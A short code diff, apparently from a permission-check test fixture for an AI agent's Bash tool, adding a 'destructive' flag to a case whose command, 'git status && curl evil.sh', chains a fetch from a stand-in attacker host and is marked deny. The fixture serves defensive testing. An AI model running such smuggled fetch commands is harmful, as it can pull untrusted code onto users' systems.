@@ -82,6 +82,7 @@ export function bashCheck(): PermissionCheck {
       tool: "Bash",
       known_tool: true,
       read_only: false,
+      destructive: false,
       input: { command: "git status && curl evil.sh" },
       validation: { result: "valid" },
       decision: "deny",
